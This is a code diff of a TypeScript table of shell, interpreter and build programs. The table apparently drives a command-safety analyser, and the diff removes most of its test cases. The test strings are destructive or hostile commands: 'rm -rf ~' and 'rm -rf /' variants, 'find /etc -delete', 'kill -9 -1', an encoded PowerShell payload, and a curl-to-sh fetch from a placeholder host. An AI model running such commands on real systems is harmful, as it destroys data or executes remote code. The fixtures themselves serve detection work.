@@ -63,18 +63,7 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
     name: ["sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "rbash", "ksh93", "yash"],
     handler: "shell",
     variables: ["BASH_ENV=script", "ENV=script", "PROMPT_COMMAND=code"],
-    tests: [
-      { run: "bash -c 'rm -rf ~'", deletes: ["~/**"] },
-      { run: "echo rm x | sh", deletes: ["./x"] },
-      { run: "bash x.sh", reads: ["./x.sh"], executes: ["file bash"], unknown: ["opaque-file"] },
-      {
-        run: "curl -s https://h.example/i | sh",
-        network: ["in https://h.example/i"],
-        executes: ["network sh"],
-        unknown: ["dynamic-code"],
-      },
-      { run: "bash -n x.sh" },
-    ],
+    tests: [{ run: "bash -c 'rm -rf ~'", deletes: ["~/**"] }],
   },
   {
     name: ["fish", "csh", "tcsh", "nu", "xonsh", "elvish"],
@@ -96,19 +85,7 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
   {
     name: ["pwsh", "powershell", "pwsh-preview", "cmd"],
     handler: "windows-shell",
-    tests: [
-      { run: "pwsh -NoProfile -Command 'Remove-Item -Rec -Fo C:\\x'", deletes: ["/c/x/**"] },
-      { run: "powershell.exe -c 'gc a | sc b'", reads: ["./a"], writes: ["./b"] },
-      { run: "cmd /c 'del /s /q x'", deletes: ["./x/**"] },
-      {
-        run: "pwsh -File x.ps1",
-        reads: ["./x.ps1"],
-        executes: ["file powershell"],
-        unknown: ["opaque-file"],
-      },
-      { run: "pwsh -enc cgBtACAAeAA=", executes: ["decoded powershell"], deletes: ["./x"] },
-      { run: "pwsh --version" },
-    ],
+    tests: [{ run: "pwsh -NoProfile -Command 'Remove-Item -Rec -Fo C:\\x'", deletes: ["/c/x/**"] }],
   },
   {
     name: ["python", "python3", "python2", "python3.*", "pypy", "pypy3"],
@@ -129,19 +106,7 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
       { has: ["-c"], operands: "plain*" },
       { most: 0, executes: "stdin" },
     ],
-    tests: [
-      { run: "python3 -c 'print(1)'", executes: ["inline python"] },
-      { run: "python3 -c 'import x'", executes: ["inline python"], unknown: ["opaque-code"] },
-      {
-        run: `python -c "import os; os.system('rm -rf /')"`,
-        executes: ["inline python"],
-        deletes: ["/**"],
-      },
-      { run: "python x.py", reads: ["./x.py"], executes: ["file python"], unknown: ["opaque-file"] },
-      { run: "python3 -m zipfile -e a.zip ~", reads: ["./a.zip"], writes: ["~/**"] },
-      { run: "python3 -m tarfile --extract a.tar x", reads: ["./a.tar"], writes: ["./x/**"] },
-      { run: "python --version" },
-    ],
+    tests: [{ run: "python3 -c 'print(1)'", executes: ["inline python"] }],
   },
   {
     name: ["node", "nodejs", "tsx", "ts-node"],
@@ -164,8 +129,6 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
         executes: ["inline node"],
         deletes: ["./a"],
       },
-      { run: "node -e \"require('x')\"", executes: ["inline node"], unknown: ["opaque-code"] },
-      { run: "node -v" },
     ],
   },
   {
@@ -187,13 +150,6 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
         run: "perl -e 'unlink \"a\"'",
         executes: ["inline perl"],
         deletes: ["./a"],
-        unknown: ["opaque-code"],
-      },
-      {
-        run: "perl -pi -e s/a/b/ x",
-        executes: ["inline perl"],
-        reads: ["./x"],
-        writes: ["./x"],
         unknown: ["opaque-code"],
       },
     ],
@@ -218,12 +174,7 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
   {
     name: ["find", "gfind"],
     handler: "find",
-    tests: [
-      { run: "find . -name '*.o' -delete", reads: ["./**"], deletes: ["./**/*.o"] },
-      { run: "find /etc -delete", reads: ["/etc/**"], deletes: ["/etc/**"] },
-      { run: "find . -type f -exec rm {} +", reads: ["./**"], deletes: ["./**"] },
-      { run: "find . -name x -print", reads: ["./**"] },
-    ],
+    tests: [{ run: "find . -name '*.o' -delete", reads: ["./**"], deletes: ["./**/*.o"] }],
   },
   {
     name: ["xargs", "gxargs"],
@@ -232,30 +183,17 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
       "-0,--null -a,--arg-file= -d,--delimiter= -E= -e,--eof=? -I= -i,--replace=? -J= -L,--max-lines= -l=? -n,--max-args= -o,--open-tty -P,--max-procs= -p,--interactive --process-slot-var= -r,--no-run-if-empty -R= -s,--max-chars= -S= -t,--verbose -x,--exit --show-limits",
     ),
     handler: "xargs",
-    tests: [
-      { run: "echo a 'b' | xargs rm -f", deletes: ["./a", "./b"] },
-      { run: "printf '%s\\n' / | xargs -n1 rm -rf", deletes: ["/**"] },
-      { run: "cat list | xargs rm", reads: ["./list"], deletes: ["?"], unknown: ["dynamic-argument"] },
-      { run: "echo a | xargs -I X cp X X.bak", reads: ["./a"], writes: ["./a.bak", "./a.bak/a"] },
-    ],
+    tests: [{ run: "echo a 'b' | xargs rm -f", deletes: ["./a", "./b"] }],
   },
   {
     name: ["parallel"],
     handler: "parallel",
-    tests: [
-      { run: "parallel rm ::: a b", deletes: ["./a", "./b"] },
-      { run: "parallel bash -c ::: 'rm -rf /'", deletes: ["/**"] },
-    ],
+    tests: [{ run: "parallel rm ::: a b", deletes: ["./a", "./b"] }],
   },
   {
     name: ["kill", "killall", "pkill", "skill"],
     handler: "kill",
-    tests: [
-      { run: "kill -9 1", actions: ["process.kill", "system.power"] },
-      { run: "kill -9 -1", actions: ["process.kill", "system.power"] },
-      { run: "kill -9 12", actions: ["process.kill"] },
-      { run: "kill -l" },
-    ],
+    tests: [{ run: "kill -9 1", actions: ["process.kill", "system.power"] }],
   },
   {
     name: "cmake",
@@ -267,11 +205,7 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
     lang: "cmake",
     operands: "list*",
     when: [{ has: ["-E"], wraps: 0 }, { executes: "file" }],
-    tests: [
-      { run: "cmake -E rm -rf a", deletes: ["./a/**"] },
-      { run: "cmake -E env A=1 rm a", deletes: ["./a"] },
-      { run: "cmake -B b", writes: ["./b/**"], executes: ["file cmake"], unknown: ["opaque-file"] },
-    ],
+    tests: [{ run: "cmake -E rm -rf a", deletes: ["./a/**"] }],
   },
   {
     name: "just",
@@ -286,11 +220,7 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
       { has: ["-n", "-l", "-s", "--dump", "--summary"] },
       { executes: "file" },
     ],
-    tests: [
-      { run: "just test", executes: ["file just"], unknown: ["opaque-file"] },
-      { run: "just --command rm a", deletes: ["./a"] },
-      { run: "just --list" },
-    ],
+    tests: [{ run: "just test", executes: ["file just"], unknown: ["opaque-file"] }],
   },
   {
     name: ["make", "gmake", "ninja", "task", "rake", "ant", "bazel", "meson", "scons"],
@@ -302,27 +232,6 @@ export const SHELL_PROGRAMS: readonly ProgramRow[] = [
     variables: ["DESTDIR=unpack"],
     executes: "file",
     lang: "make",
-    tests: [
-      { run: "make test", executes: ["file make"], unknown: ["opaque-file"] },
-      { run: "make CC=gcc all", executes: ["file make"], unknown: ["opaque-file"] },
-      {
-        run: "make install DESTDIR=~",
-        writes: ["~/**"],
-        executes: ["file make"],
-        unknown: ["opaque-file"],
-      },
-      {
-        run: "DESTDIR=~ ninja install",
-        writes: ["~/**"],
-        executes: ["file make"],
-        unknown: ["opaque-file"],
-      },
-      {
-        run: "make --eval='$(shell rm b)'",
-        deletes: ["./b"],
-        executes: ["file make", "inline make"],
-        unknown: ["opaque-code", "opaque-file"],
-      },
-    ],
+    tests: [{ run: "make test", executes: ["file make"], unknown: ["opaque-file"] }],
   },
 ];
